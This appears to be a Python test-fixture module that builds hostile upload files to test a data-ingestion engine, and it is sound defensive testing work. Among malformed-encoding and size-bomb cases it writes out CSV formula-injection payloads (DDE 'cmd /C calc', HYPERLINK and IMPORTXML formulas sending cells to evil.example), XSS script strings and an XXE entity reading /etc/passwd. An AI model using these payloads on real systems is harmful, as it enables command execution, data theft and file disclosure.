"""Seeded generators of hostile upload files: each `Case` builds its bytes on demand in memory.

Nothing here is committed as a binary: the files are built when a test asks for them (a few MB at
most; the bombs rely on compression, and limits are lowered through ``SHOAL_…`` variables where a
file would otherwise have to be large). Every file that holds data holds `CANARY` in a data cell (never
in a header), so a test can assert that no error message quotes a cell.
"""

from __future__ import annotations

import codecs
import io
import json
import random
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field

CANARY = "Zebulon Quaxfeather"
CANARY_EMAIL = "zebulon.quaxfeather@canary-mail.example"
SEED = 11


@dataclass(frozen=True)
class Case:
    """One hostile upload.

    ``name`` is the file name the user sends; ``build`` makes its bytes. ``reject`` True: the engine
    must refuse it with an `InputError`; None: either outcome is fine as long as it is one of the two.
    ``env`` lowers limits (``SHOAL_…``) for this file only.
    """

    id: str
    category: str
    name: str
    build: Callable[[], bytes]
    reject: bool | None = None
    env: dict[str, str] = field(default_factory=dict)

    @property
    def suffix(self) -> str:
        dot = self.name.rfind(".")
        return self.name[dot:].lower() if dot > 0 and "/" not in self.name[dot:] else ""

    @property
    def disk_name(self) -> str:
        """A name safe to write under a temporary directory (the engine sees the worker's copy,
        ``<pk>/upload<suffix>``, never the user's name)."""
        return f"upload{self.suffix}"


def _rng(tag: str) -> random.Random:
    return random.Random(f"{SEED}:{tag}")


def _people(rows: int, tag: str) -> list[list[str]]:
    """Plausible rows (name, email, city, amount); row 1 holds the canary."""
    rng = _rng(tag)
    first = ["Anna", "Jonas", "Marie", "Luca", "Sofia", "Emil", "Ines", "Tomasz", "Chloé", "Björn"]
    last = ["Schmidt", "Dubois", "Rossi", "Nowak", "García", "Jensen", "Müller", "Costa", "Novak"]
    cities = ["Berlin", "Lyon", "Porto", "Gdańsk", "Aarhus", "Graz", "Málaga", "Brno"]
    out = []
    for i in range(rows):
        if i == 1:
            name, email = CANARY, CANARY_EMAIL
        else:
            f, last_name = rng.choice(first), rng.choice(last)
            name, email = f"{f} {last_name}", f"{f.lower()}.{last_name.lower()}{i}@mail.example"
        out.append([name, email, rng.choice(cities), str(rng.randint(5, 900))])
    return out


HEADER = ["name", "email", "city", "amount"]


def _csv(rows: list[list[str]], *, header: list[str] | None = HEADER, sep: str = ",", eol: str = "\n") -> str:
    lines = ([sep.join(header)] if header else []) + [sep.join(r) for r in rows]
    return eol.join(lines) + eol


def good_csv(rows: int = 12) -> bytes:
    return _csv(_people(rows, "good")).encode()


# --- CSV ----------------------------------------------------------------------------------------


def csv_cases() -> list[Case]:
    people = _people(30, "csv")
    base = _csv(people)
    canary_row = f"{CANARY},{CANARY_EMAIL},Berlin,1"
    c: list[tuple[str, Callable[[], bytes], bool | None, dict[str, str]]] = []

    def add(i: str, build: Callable[[], bytes], reject: bool | None = None, env: dict | None = None) -> None:
        c.append((i, build, reject, env or {}))

    # ragged rows
    add("ragged-short", lambda: (base + f"{CANARY},x\n").encode(), True)
    add("ragged-long", lambda: (base + f"{CANARY},a,b,c,d,e,f\n").encode(), True)
    add("ragged-alternating", lambda: "".join(f"{CANARY}{',x' * (i % 5)}\n" for i in range(60)).encode())
    add("ragged-header-wider", lambda: ("a,b,c,d,e,f,g\n" + _csv(people, header=None)).encode(), True)
    add(
        "ragged-every-row",
        lambda: ("a,b\n" + "".join(f"{CANARY}" + ",z" * i + "\n" for i in range(40))).encode(),
    )
    # quotes
    add("unterminated-quote-end", lambda: (base + f'"{CANARY},x,y,1\n').encode())
    add(
        "unterminated-quote-middle",
        lambda: (_csv(people[:5]) + f'"{CANARY},x,y,1\n' + _csv(people, header=None)).encode(),
    )
    add("quote-inside-unquoted", lambda: (base + f'{CANARY}"x",a"b,c""d,1\n').encode())
    add("quote-storm", lambda: (base + '"' * 5001 + f",{CANARY},x,1\n").encode())
    add("quoted-newlines-many", lambda: (base + f'"{CANARY}' + "\n" * 5000 + '",x,y,1\n').encode())
    add("stray-quote-after-field", lambda: (base + f'"{CANARY}"junk,x,y,1\n').encode())
    # NUL bytes
    add("nul-in-head", lambda: base.encode().replace(b"Berlin", b"Ber\x00lin", 1) + canary_row.encode(), True)
    add(
        "nul-after-sniff", lambda: (base * 40).encode()[:70_000] + b"\n" + canary_row.encode() + b"\x00\x00\n"
    )
    add("nul-only", lambda: b"\x00" * 4096, True)
    # BOMs
    bom8 = codecs.BOM_UTF8
    add("bom-utf8", lambda: bom8 + base.encode())
    add("bom-utf8-twice", lambda: bom8 + bom8 + base.encode())
    add("bom-utf8-mid-file", lambda: base.encode() + bom8 + canary_row.encode() + b"\n")
    add("bom-utf8-every-line", lambda: b"".join(bom8 + line.encode() + b"\n" for line in base.splitlines()))
    add("bom-utf16le", lambda: codecs.BOM_UTF16_LE + base.encode("utf-16-le"))
    add("bom-utf16be", lambda: codecs.BOM_UTF16_BE + base.encode("utf-16-be"))
    add("bom-utf32le", lambda: codecs.BOM_UTF32_LE + base.encode("utf-32-le"))
    add("bom-utf8-then-utf16", lambda: bom8 + base.encode("utf-16-le"))
    add("bom-only", lambda: bom8, True)
    # width
    add(
        "cols-10k",
        lambda: (
            ",".join(f"c{i}" for i in range(10_000)) + "\n" + ",".join([CANARY] * 10_000) + "\n"
        ).encode(),
        True,
    )
    add(
        "cols-2049",
        lambda: (
            ",".join(f"c{i}" for i in range(2049)) + "\n" + ",".join(["1"] * 2048 + [CANARY]) + "\n"
        ).encode(),
        True,
    )
    add(
        "cols-65-limit-64",
        lambda: (",".join(f"c{i}" for i in range(65)) + "\n" + ",".join([CANARY] * 65) + "\n").encode(),
        True,
        {"SHOAL_MAX_COLUMNS": "64"},
    )
    add("cols-10k-data-only", lambda: (base + ",".join([CANARY] * 10_000) + "\n").encode(), True)
    # long lines
    add("line-5mb-unquoted", lambda: (base + CANARY + "," + "x" * (5 << 20) + ",y,1\n").encode(), True)
    add("line-5mb-no-newline", lambda: ("name\n" + CANARY + "y" * (5 << 20)).encode(), True)
    add("line-5mb-header", lambda: ("h" * (5 << 20) + "\n" + canary_row + "\n").encode(), True)
    add("line-5mb-quoted", lambda: (base + f'"{CANARY}' + "q" * (5 << 20) + '",x,y,1\n').encode(), True)
    add("cell-just-over-cap", lambda: (base + f"{CANARY},{'w' * 256_001},y,1\n").encode(), True)
    add("cells-many-commas-5mb", lambda: (base + CANARY + "," * (5 << 20) + "\n").encode(), True)
    # encodings
    add("cp1252-whole", lambda: (base + "Renée Façade,r@x.example,Málaga,€5\n").encode("cp1252", "replace"))
    add(
        "latin1-after-sniff",
        lambda: (
            (base * 40).encode()[:70_000]
            + b"\n"
            + f"{CANARY},Jos\xe9,M\xe1laga,1\n".encode("latin-1", "replace") * 3
        ),
    )
    add("shift-jis", lambda: (base + "山田太郎,y@x.example,東京,1\n").encode("shift_jis", "replace"))
    add("koi8r", lambda: (base + "Иван Петров,i@x.example,Москва,1\n").encode("koi8_r", "replace"))
    add(
        "mixed-utf8-latin1-lines",
        lambda: b"".join(
            (line + "é\n").encode("utf-8" if i % 2 else "latin-1", "replace")
            for i, line in enumerate(base.splitlines())
        ),
    )
    add("utf8-overlong", lambda: base.encode() + b"\xc0\xaf" + canary_row.encode() + b"\n")
    add("utf8-lone-continuation", lambda: base.encode() + b"\x80\x80\x80," + canary_row.encode() + b"\n")
    add("utf8-truncated-at-eof", lambda: base.encode() + canary_row.encode() + b"\xe2\x82")
    add("utf8-encoded-surrogate", lambda: base.encode() + canary_row.encode() + b"\xed\xa0\x80\n")
    add(
        "utf8-invalid-everywhere",
        lambda: bytes(b ^ 0x80 if i % 7 == 0 else b for i, b in enumerate(base.encode())),
    )
    add("utf16le-no-bom", lambda: base.encode("utf-16-le"))
    add("utf16be-no-bom", lambda: base.encode("utf-16-be"))
    add("utf32-no-bom", lambda: base.encode("utf-32-le"))
    # line endings
    add("cr-only", lambda: base.replace("\n", "\r").encode())
    add("crlf", lambda: base.replace("\n", "\r\n").encode())
    add(
        "crlf-lf-cr-mix",
        lambda: "".join(
            line + ["\r\n", "\n", "\r"][i % 3] for i, line in enumerate(base.splitlines())
        ).encode(),
    )
    add("cr-in-quoted", lambda: (base + f'"{CANARY}\rsecond\r\nthird",x,y,1\n').encode())
    add("lf-cr-reversed", lambda: base.replace("\n", "\n\r").encode())
    add("line-separator-u2028", lambda: base.replace("\n", "\u2028").encode())
    # formula injection (CSV injection): anonymised as text, never evaluated
    for j, payload in enumerate(
        [
            "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            '\t=HYPERLINK("http://evil.example?"&A1,"x")',
            '=DDE("cmd";"/C calc";"!A0")',
            '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
        ]
    ):
        quoted = '"' + payload.replace('"', '""') + '"'
        add(f"formula-{j}", lambda quoted=quoted: (base + f"{CANARY},{quoted},{quoted},{quoted}\n").encode())
    # delimiter chaos
    add(
        "delim-semicolon-comma-mix",
        lambda: "".join(
            r.replace(",", ";" if i % 2 else ",") + "\n" for i, r in enumerate(base.splitlines())
        ).encode(),
    )
    add("delim-tabs-in-csv", lambda: base.replace(",", "\t").encode())
    add("delim-pipes", lambda: base.replace(",", "|").encode())
    add(
        "delim-random-per-row",
        lambda: "".join(
            r.replace(",", _rng(f"d{i}").choice(",;|\t")) + "\n" for i, r in enumerate(base.splitlines())
        ).encode(),
    )
    add("delim-none-single-column", lambda: ("\n".join(p[0] for p in people) + "\n").encode())
    add("delim-only-commas", lambda: (",,,,\n" * 50 + canary_row + "\n").encode())
    add("header-duplicate-names", lambda: ("name,name,name,name\n" + _csv(people, header=None)).encode())
    add("header-empty-cells", lambda: (",,,\n" + _csv(people, header=None)).encode())
    add("header-only", lambda: b"name,email,city,amount\n")
    add("header-numeric", lambda: ("1,2,3,4\n" + _csv(people, header=None)).encode())
    add("header-injection-names", lambda: ("=1+1,@x,+y,-z\n" + _csv(people, header=None)).encode())
    add("header-very-long-name", lambda: ("n" * 300_000 + ",b\n" + canary_row[:20] + ",x\n").encode(), True)
    # emptiness and blanks
    add("empty", lambda: b"", True)
    add("whitespace-only", lambda: b"   \n\t\n  \r\n", True)
    add("newlines-only", lambda: b"\n" * 10_000, True)
    add("blank-rows-between", lambda: "\n\n\n".join(base.splitlines()).encode())
    add("trailing-blank-rows", lambda: (base + "\n" * 5000).encode())
    # controls and escapes
    add("control-chars-in-cells", lambda: (base + f"{CANARY}\x01\x02,x\x1b[31m,y\x7f,1\n").encode())
    add("backslash-escapes", lambda: (base + f'{CANARY}\\,\\"x\\",\\n,1\n').encode())
    add("rows-50k", lambda: _csv(_people(50_000, "rows")).encode())
    add("rows-over-limit", lambda: _csv(_people(200, "rowlim")).encode(), True, {"SHOAL_MAX_ROWS": "100"})
    add("cells-over-limit", lambda: _csv(_people(200, "celllim")).encode(), True, {"SHOAL_MAX_CELLS": "400"})
    return [Case(f"csv-{i}", "csv", f"{i}.csv", b, r, e) for i, b, r, e in c]


# --- JSONL --------------------------------------------------------------------------------------


def _jsonl(records: list[object]) -> str:
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records)


def jsonl_cases() -> list[Case]:
    people = [
        {"name": n, "email": e, "city": c, "note": f"{n} paid {a} EUR"} for n, e, c, a in _people(20, "jsonl")
    ]
    base = _jsonl(people)
    canary = json.dumps({"name": CANARY, "email": CANARY_EMAIL})
    c: list[tuple[str, Callable[[], bytes], bool | None, dict[str, str]]] = []

    def add(i: str, build: Callable[[], bytes], reject: bool | None = None, env: dict | None = None) -> None:
        c.append((i, build, reject, env or {}))

    add("truncated-last-line", lambda: (base + canary[: len(canary) // 2]).encode(), True)
    add("truncated-mid-string", lambda: (base + '{"name": "' + CANARY + "\n" + base).encode(), True)
    add("missing-brace", lambda: (base + canary[:-1] + "\n").encode(), True)
    add("two-objects-one-line", lambda: (base + canary + canary + "\n").encode(), True)
    add("trailing-comma", lambda: (base + canary[:-1] + ",}\n").encode(), True)
    add("single-quotes", lambda: (base + f"{{'name': '{CANARY}'}}\n").encode(), True)
    add("comments", lambda: (base + f"// {CANARY}\n").encode(), True)
    add("pretty-printed", lambda: json.dumps(people, indent=2).encode(), True)
    add("json-array-file", lambda: json.dumps(people).encode())
    for depth in (5000, 1000, 65):
        add(
            f"nest-arrays-{depth}",
            lambda d=depth: (base + "[" * d + json.dumps(CANARY) + "]" * d + "\n").encode(),
            True,
        )
        add(
            f"nest-objects-{depth}",
            lambda d=depth: (base + '{"a":' * d + json.dumps(CANARY) + "}" * d + "\n").encode(),
            True,
        )
    add("nest-64-allowed", lambda: (base + "[" * 63 + json.dumps({"n": CANARY}) + "]" * 63 + "\n").encode())
    add("nest-unclosed-5000", lambda: (base + "[" * 5000 + "\n").encode(), True)
    add(
        "huge-int-5000-digits",
        lambda: (base + json.dumps({"name": CANARY})[:-1] + ', "n": ' + "9" * 5000 + "}\n").encode(),
    )
    add(
        "huge-int-100k-digits",
        lambda: (base + '{"n": ' + "7" * 100_000 + ', "name": "' + CANARY + '"}\n').encode(),
    )
    add("huge-float-1e400", lambda: (base + f'{{"x": 1e400, "y": -1e400, "name": "{CANARY}"}}\n').encode())
    add("tiny-float-1e-400", lambda: (base + f'{{"x": 1e-400, "name": "{CANARY}"}}\n').encode())
    add(
        "long-float-mantissa", lambda: (base + '{"x": 0.' + "1" * 5000 + f', "name": "{CANARY}"}}\n').encode()
    )
    add(
        "nan-infinity",
        lambda: (base + f'{{"a": NaN, "b": Infinity, "c": -Infinity, "name": "{CANARY}"}}\n').encode(),
    )
    add("nan-bare-line", lambda: (base + "NaN\nInfinity\n").encode())
    add(
        "duplicate-keys",
        lambda: (base + f'{{"name": "{CANARY}", "name": "x", "name": {{"name": "{CANARY}"}}}}\n').encode(),
    )
    for j, literal in enumerate(["[1, 2, 3]", json.dumps(CANARY), "42", "null", "true", '""', "[]", "{}"]):
        add(f"non-object-{j}", lambda literal=literal: (base + literal + "\n").encode())
    add(
        "only-scalars",
        lambda: "".join(json.dumps(v) + "\n" for v in [1, "a", None, True, 2.5, CANARY]).encode(),
    )
    add(
        "string-1mb",
        lambda: (base + json.dumps({"name": CANARY, "blob": "s" * (1 << 20)}) + "\n").encode(),
        True,
    )
    add("key-1mb", lambda: (base + json.dumps({"k" * (1 << 20): CANARY}) + "\n").encode(), True)
    add(
        "many-keys-50k",
        lambda: (
            base + json.dumps({f"k{i}": CANARY if i == 7 else i for i in range(20_000)}) + "\n"
        ).encode(),
    )
    add("invalid-escape-x", lambda: (base + f'{{"name": "{CANARY}\\x41"}}\n').encode(), True)
    add("invalid-escape-short-u", lambda: (base + f'{{"name": "{CANARY}\\u12"}}\n').encode(), True)
    add("invalid-escape-trailing-backslash", lambda: (base + f'{{"name": "{CANARY}\\"}}\n').encode(), True)
    add("lone-high-surrogate", lambda: (base + f'{{"name": "{CANARY}\\ud800"}}\n').encode())
    add("lone-low-surrogate", lambda: (base + f'{{"name": "\\udc00{CANARY}"}}\n').encode())
    add("reversed-surrogates", lambda: (base + f'{{"name": "{CANARY}\\udc00\\ud800"}}\n').encode())
    add("surrogate-key", lambda: (base + f'{{"\\ud800": "{CANARY}"}}\n').encode())
    add(
        "escaped-nul-and-controls",
        lambda: (base + f'{{"name": "{CANARY}\\u0000\\u001b[2J\\u0007"}}\n').encode(),
    )
    add("raw-control-in-string", lambda: (base + f'{{"name": "{CANARY}\x01\x02"}}\n').encode())
    add("raw-nul-line", lambda: (base + f'{{"name": "{CANARY}"}}\x00\n').encode())
    add("bom-utf8", lambda: codecs.BOM_UTF8 + base.encode())
    add("bom-mid-file", lambda: base.encode() + codecs.BOM_UTF8 + canary.encode() + b"\n")
    add("utf16le-bom", lambda: codecs.BOM_UTF16_LE + base.encode("utf-16-le"))
    add("utf16le-no-bom", lambda: base.encode("utf-16-le"))
    add("invalid-utf8", lambda: base.encode() + b'{"name": "\xff\xfe' + CANARY.encode() + b'"}\n')
    add("latin1", lambda: (base + f'{{"name": "{CANARY} José"}}\n').encode("latin-1", "replace"))
    add("crlf-lines", lambda: base.replace("\n", "\r\n").encode())
    add("cr-only-lines", lambda: base.replace("\n", "\r").encode())
    add("blank-lines-only", lambda: b"\n \n\t\n" * 100)
    add("empty", lambda: b"", True)
    add(
        "mixed-types-per-key",
        lambda: _jsonl([{"v": CANARY}, {"v": 1}, {"v": [CANARY]}, {"v": {"v": None}}, {"v": True}]).encode(),
    )
    add(
        "empty-and-odd-keys",
        lambda: _jsonl([{"": CANARY}, {" ": 1, "\u202e": CANARY, "a.b": {"$ref": "#"}}]).encode(),
    )
    add(
        "records-over-limit",
        lambda: _jsonl([{"name": CANARY, "i": i} for i in range(300)]).encode(),
        True,
        {"SHOAL_MAX_ROWS": "100"},
    )
    add("lines-100k", lambda: ("{}\n" * 100_000 + canary + "\n").encode())
    return [Case(f"jsonl-{i}", "jsonl", f"{i}.jsonl", b, r, e) for i, b, r, e in c]


# --- TXT ----------------------------------------------------------------------------------------


def txt_cases() -> list[Case]:
    text = "".join(f"{n} from {c} wrote to {e} about invoice {a}.\n" for n, e, c, a in _people(20, "txt"))
    zalgo_marks = [chr(x) for x in range(0x300, 0x370)]
    c: list[tuple[str, Callable[[], bytes], bool | None, dict[str, str]]] = []

    def add(i: str, build: Callable[[], bytes], reject: bool | None = None, env: dict | None = None) -> None:
        c.append((i, build, reject, env or {}))

    add("binary-garbage", lambda: _rng("bin").randbytes(64 << 10), True)
    add("binary-after-text", lambda: text.encode() + _rng("bin2").randbytes(8192))
    add("binary-no-nul", lambda: bytes(b for b in _rng("bin3").randbytes(16 << 10) if b), True)
    add("zero-bytes", lambda: b"\x00" * 8192, True)
    add("empty", lambda: b"", True)
    add("png-header", lambda: b"\x89PNG\r\n\x1a\n" + _rng("png").randbytes(4096), True)
    add("elf-header", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + _rng("elf").randbytes(4096), True)
    add("line-2mb", lambda: (text + CANARY + " " + "word " * (2 << 18) + "\n").encode(), True)
    add("line-5mb-no-newline", lambda: (CANARY + "z" * (5 << 20)).encode(), True)
    add("line-just-over-cap", lambda: (text + CANARY + "y" * 256_001 + "\n").encode(), True)
    add("line-100k-words", lambda: (text + " ".join([CANARY] + ["lorem"] * 16_000) + "\n").encode())
    add(
        "rtl-override",
        lambda: (text + f"\u202e{CANARY}\u202c wrote \u202dmoc.elpmaxe@rekcah\u202c\n").encode(),
    )
    add("bidi-isolates", lambda: (text + f"\u2067{CANARY}\u2069 \u2066x\u2069 \u2068y\u2069\n" * 5).encode())
    add(
        "zalgo",
        lambda: (
            text + "".join(ch + "".join(_rng(ch).choices(zalgo_marks, k=30)) for ch in CANARY) + "\n"
        ).encode(),
    )
    add("zalgo-storm", lambda: (text + "a" + "\u0301" * 200_000 + "\n").encode())
    add("zero-width", lambda: (text + "\u200b".join(CANARY) + "\u200d\ufeff\u2060\n").encode())
    add("emoji-zwj", lambda: (text + f"{CANARY} 👨‍👩‍👧‍👦🏳️‍🌈 " * 200 + "\n").encode())
    add("private-use-nonchars", lambda: (text + f"{CANARY} \ue000\uf8ff\ufffe\uffff\U0010ffff\n").encode())
    add("newlines-only", lambda: b"\n" * 50_000)
    add("cr-only", lambda: text.replace("\n", "\r").encode())
    add(
        "crlf-mixed",
        lambda: "".join(
            line + ("\r\n" if i % 2 else "\n") for i, line in enumerate(text.splitlines())
        ).encode(),
    )
    add("form-feed-vtab", lambda: (text + f"{CANARY}\x0c\x0b page\n").encode())
    add("ansi-escapes", lambda: (text + f"\x1b[31m{CANARY}\x1b[0m\n").encode())
    add("nul-mid-file", lambda: (text * 200).encode()[:70_000] + b"\n" + CANARY.encode() + b"\x00\n")
    add("invalid-utf8", lambda: text.encode() + CANARY.encode() + b"\xff\xfe\xfa\n")
    add(
        "invalid-utf8-after-sniff",
        lambda: (text * 200).encode()[:70_000] + b"\n" + CANARY.encode() + b"\xc3\x28\n",
    )
    add("latin1", lambda: (text + f"{CANARY} à Málaga\n").encode("latin-1", "replace"))
    add("utf16-bom", lambda: codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
    add("utf16-no-bom", lambda: text.encode("utf-16-le"))
    add("utf16be-no-bom", lambda: text.encode("utf-16-be"))
    add("cesu8-surrogates", lambda: text.encode() + CANARY.encode() + b" \xed\xa0\xbd\xed\xb8\x80\n")
    add("unicode-line-separators", lambda: text.replace("\n", "\u2028\u2029\x85").encode())
    add("lines-over-limit", lambda: (text * 20).encode(), True, {"SHOAL_MAX_ROWS": "100"})
    add("lines-200k", lambda: ("ok\n" * 200_000 + CANARY + "\n").encode())
    add(
        "html-script",
        lambda: (text + f"<script>alert('{CANARY}')</script><img src=x onerror=alert(1)>\n").encode(),
    )
    return [Case(f"txt-{i}", "txt", f"{i}.txt", b, r, e) for i, b, r, e in c]


# --- Parquet ------------------------------------------------------------------------------------


def _parquet(table: object, **kwargs: object) -> bytes:
    import pyarrow.parquet as pq

    sink = io.BytesIO()
    pq.write_table(table, sink, **kwargs)
    return sink.getvalue()


def _people_table(rows: int = 20) -> object:
    import pyarrow as pa

    cols = list(zip(*_people(rows, "pq"), strict=True))
    return pa.table({h: list(col) for h, col in zip(HEADER, cols, strict=True)})


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def _declared_rows(rows: int) -> bytes:
    """A valid Parquet file of 7 rows whose footer declares ``rows`` rows (file and row group): the
    thrift compact fields ``num_rows`` (i64, header 0x16, zigzag varint 14) are rewritten."""
    data = _parquet(_people_table(7), compression="NONE")
    length = struct.unpack("<I", data[-8:-4])[0]
    footer = data[-8 - length : -8]
    patched = footer.replace(b"\x16\x0e", b"\x16" + _varint(rows << 1))
    return data[: -8 - length] + patched + struct.pack("<I", len(patched)) + b"PAR1"


def parquet_cases() -> list[Case]:
    import pyarrow as pa

    good = lambda: _parquet(_people_table())  # noqa: E731
    c: list[tuple[str, Callable[[], bytes], bool | None, dict[str, str]]] = []

    def add(i: str, build: Callable[[], bytes], reject: bool | None = None, env: dict | None = None) -> None:
        c.append((i, build, reject, env or {}))

    add("truncated-half", lambda: good()[: len(good()) // 2], True)
    add("truncated-footer", lambda: good()[:-3], True)
    add("truncated-to-magic", lambda: b"PAR1", True)
    add("magic-twice", lambda: b"PAR1PAR1", True)
    add("wrong-magic-start", lambda: b"PAR0" + good()[4:])
    add("wrong-magic-end", lambda: good()[:-4] + b"PARX", True)
    add("footer-length-huge", lambda: good()[:-8] + struct.pack("<I", 0xFFFFFFF0) + b"PAR1", True)
    add("footer-length-zero", lambda: good()[:-8] + struct.pack("<I", 0) + b"PAR1", True)
    add(
        "footer-garbage",
        lambda: (lambda d, n: d[: -8 - n] + _rng("ft").randbytes(n) + d[-8:])(
            good(), struct.unpack("<I", good()[-8:-4])[0]
        ),
        True,
    )
    add(
        "footer-bitflips",
        lambda: (lambda d: d[:-60] + bytes(b ^ 0x5A for b in d[-60:-8]) + d[-8:])(good()),
        True,
    )
    add("random-between-magic", lambda: b"PAR1" + _rng("pq").randbytes(4096) + b"PAR1", True)
    add("csv-text", lambda: good_csv(), True)
    add("data-pages-corrupt", lambda: (lambda d: d[:4] + bytes(b ^ 0xFF for b in d[4:200]) + d[200:])(good()))
    add("declared-rows-1e12", lambda: _declared_rows(10**12), True)
    add("declared-rows-negative", lambda: _declared_rows(-5 & ((1 << 63) - 1)), True)
    add("zero-rows", lambda: _parquet(pa.table({h: pa.array([], pa.string()) for h in HEADER})))
    add("zero-columns", lambda: _parquet(pa.table({})))
    add("zero-columns-with-rows", lambda: _parquet(pa.table({"a": [1, 2, 3]}).drop(["a"])))
    add(
        "nested-struct-list-map",
        lambda: _parquet(
            pa.table(
                {
                    "person": pa.array(
                        [{"name": CANARY, "tags": ["a", "b"]}, {"name": "Anna Schmidt", "tags": []}]
                    ),
                    "emails": pa.array([[CANARY_EMAIL], None], pa.list_(pa.string())),
                    "attrs": pa.array(
                        [[("city", "Berlin")], [("k", CANARY)]], pa.map_(pa.string(), pa.string())
                    ),
                }
            )
        ),
    )
    add("deeply-nested-lists", lambda: _parquet(pa.table({"x": pa.array([[[[[[CANARY]]]]]])})))
    add(
        "binary-and-large-string",
        lambda: _parquet(
            pa.table(
                {
                    "b": pa.array([CANARY.encode(), b"\x00\xff"], pa.binary()),
                    "s": pa.array([CANARY, "x"], pa.large_string()),
                }
            )
        ),
    )
    add(
        "dictionary-encoded",
        lambda: _parquet(pa.table({"name": pa.array([CANARY, "a", CANARY]).dictionary_encode()})),
    )
    add(
        "extreme-timestamps",
        lambda: _parquet(
            pa.table(
                {
                    "ts": pa.array([0, 253402300799999], pa.timestamp("ms")),
                    "name": [CANARY, "x"],
                }
            )
        ),
    )
    add(
        "decimal-uint64-float-specials",
        lambda: _parquet(
            pa.table(
                {
                    "d": pa.array([1, 2], pa.decimal128(38, 10)),
                    "u": pa.array([2**64 - 1, 0], pa.uint64()),
                    "f": pa.array([float("nan"), float("inf")]),
                    "name": [CANARY, "x"],
                }
            )
        ),
    )
    add("all-null-column", lambda: _parquet(pa.table({"n": pa.nulls(5), "name": [CANARY] + ["x"] * 4})))
    add(
        "duplicate-column-names",
        lambda: _parquet(pa.Table.from_arrays([pa.array([CANARY]), pa.array(["x"])], names=["name", "name"])),
    )
    add(
        "empty-and-odd-column-names",
        lambda: _parquet(pa.table({"": [CANARY], "\u202e": ["x"], "a\nb": ["y"], "=1+1": ["z"]})),
    )
    add(
        "columns-3000",
        lambda: _parquet(pa.table({f"c{i}": [CANARY if i == 1 else "x"] for i in range(3000)})),
        True,
    )
    add("row-groups-many", lambda: _parquet(_people_table(500), row_group_size=1))
    add("rows-over-limit", lambda: _parquet(_people_table(200)), True, {"SHOAL_MAX_ROWS": "100"})
    add(
        "bytes-over-limit",
        lambda: _parquet(_people_table(200)),
        True,
        {"SHOAL_MAX_UNCOMPRESSED_BYTES": "1000"},
    )
    return [Case(f"parquet-{i}", "parquet", f"{i}.parquet", b, r, e) for i, b, r, e in c]


# --- XLSX ---------------------------------------------------------------------------------------

_CT = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WB_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    "</Relationships>"
)
_SHEET_HEAD = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def _cell(ref: str, value: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'


def _sheet(rows: list[list[str]] | None = None, *, prolog: str = "", dimension: str = "") -> str:
    rows = rows if rows is not None else [HEADER, *_people(10, "xlsx")]
    body = "".join(
        f'<row r="{r + 1}">'
        + "".join(_cell(f"{chr(65 + i)}{r + 1}", v) for i, v in enumerate(row))
        + "</row>"
        for r, row in enumerate(rows)
    )
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return f'<?xml version="1.0" encoding="UTF-8"?>{prolog}{_SHEET_HEAD}{dim}<sheetData>{body}</sheetData></worksheet>'


def _workbook(
    parts: dict[str, str | bytes] | None = None, drop: tuple[str, ...] = (), level: int = 6
) -> bytes:
    members: dict[str, str | bytes] = {
        "[Content_Types].xml": _CT,
        "_rels/.rels": _ROOT_RELS,
        "xl/workbook.xml": _WORKBOOK,
        "xl/_rels/workbook.xml.rels": _WB_RELS,
        "xl/worksheets/sheet1.xml": _sheet(),
    }
    members.update(parts or {})
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in members.items():
            if name not in drop:
                archive.writestr(name, data)
    return sink.getvalue()


def _openpyxl_book(fill: Callable[[object], None]) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    fill(wb.active)
    sink = io.BytesIO()
    wb.save(sink)
    return sink.getvalue()


def _sparse(ws: object) -> None:
    ws["A1"] = "name"  # type: ignore[index]
    ws["A2"] = CANARY  # type: ignore[index]
    ws["XFD1048576"] = CANARY  # type: ignore[index]


def _rewrite(data: bytes, member: str, change: Callable[[bytes], bytes]) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            dst.writestr(info.filename, change(body) if info.filename == member else body)
    return sink.getvalue()


XXE_FILE = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
